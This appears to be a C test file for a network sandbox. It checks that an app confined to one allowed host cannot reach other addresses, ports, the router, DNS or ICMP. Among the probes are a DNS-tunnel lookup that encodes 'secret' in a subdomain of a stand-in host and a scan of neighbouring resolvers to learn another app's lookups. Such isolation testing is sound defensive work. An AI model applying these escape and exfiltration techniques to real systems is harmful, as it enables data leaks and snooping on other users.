/* Out of the device, to whom no line of the manifest names: it names one host and one port. */
#include "network.h"

static attack_end try_address(void) { return talk_to(OTHER, 80); }

static attack_end try_address_ipv6(void) {
    struct sockaddr_in6 at = {.sin6_family = AF_INET6, .sin6_port = htons(80)};
    inet_pton(AF_INET6, OTHER_6, &at.sin6_addr);
    return talk(reach((struct sockaddr *)&at, sizeof at));
}

/* The same by the long way of writing it. */
static attack_end try_address_mapped(void) {
    struct sockaddr_in6 at = {.sin6_family = AF_INET6, .sin6_port = htons(80)};
    inet_pton(AF_INET6, "::ffff:" OTHER, &at.sin6_addr);
    return talk(reach((struct sockaddr *)&at, sizeof at));
}

static attack_end try_router(void) { return talk_to(ROUTER, 80); }

static attack_end try_other_port(void) { return talk_to("198.51.100.12", 6379); }

/* What a name server of the site says of a name; it answers everybody. */
static attack_end resolve_by(const struct sockaddr_in *server, const char *name) {
    struct in_addr found;
    char text[INET_ADDRSTRLEN] = "";
    int count = ask(server, name, &found);
    if (count == -1)
        return refused();
    if (count < 1)
        return attack_say("refused: it does not say");
    return worked("it is at %s", inet_ntop(AF_INET, &found, text, sizeof text));
}

static attack_end try_own_resolver(void) {
    struct sockaddr_in server = at4(ROUTER, 53);
    return resolve_by(&server, "other.example");
}

static attack_end try_udp_connected(void) {
    struct sockaddr_in server = at4(ROUTER, 53);
    int here = socket(AF_INET, SOCK_DGRAM, 0);
    if (here < 0 || connect(here, (struct sockaddr *)&server, sizeof server) < 0)
        return refused();
    return worked("sends to a name server of its own");
}

/* What the app knows is in the name that is asked for. */
static attack_end try_tunnel(void) {
    struct sockaddr_in server;
    if (own_resolver(&server) < 0)
        return attack_say("refused: nobody to ask");
    return resolve_by(&server, "c2VjcmV0.tunnel.example");
}

/* A neighbour may ask for `store.example`, by a name server of its own: who asks is known by where. */
static attack_end try_neighbours_resolver(void) {
    struct sockaddr_in own;
    if (own_resolver(&own) < 0)
        return attack_say("refused: nobody to ask");
    int count = -2;
    patience_ms = 300;
    /* On a slow machine an answer may come too late, and the next time it does not. */
    for (int turn = 0; turn < 8 * 255 && count < 1; turn++) {
        int step = 1 + turn % 255;
        struct sockaddr_in server = own;
        struct in_addr found;
        /* Uids are given in order, and so are the servers' addresses. */
        server.sin_addr.s_addr = htonl(ntohl(own.sin_addr.s_addr) + (step % 2 ? step / 2 + 1 : -step / 2));
        count = ask(&server, "store.example", &found);
        if (count == -1 && errno == EPERM)
            return refused();
    }
    return count > 0 ? worked("was told what only a neighbour may know") : failed("no neighbour said anything");
}

static attack_end try_icmp(void) {
    return socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP) < 0 ? refused() : worked("has a socket for echoes");
}

TRIES_WITH_A_NETWORK("web.example", 80, TRY(address), TRY(address_ipv6), TRY(address_mapped), TRY(router),
                     TRY(other_port), TRY(own_resolver), TRY(udp_connected), TRY(tunnel), TRY(neighbours_resolver),
                     TRY(icmp))
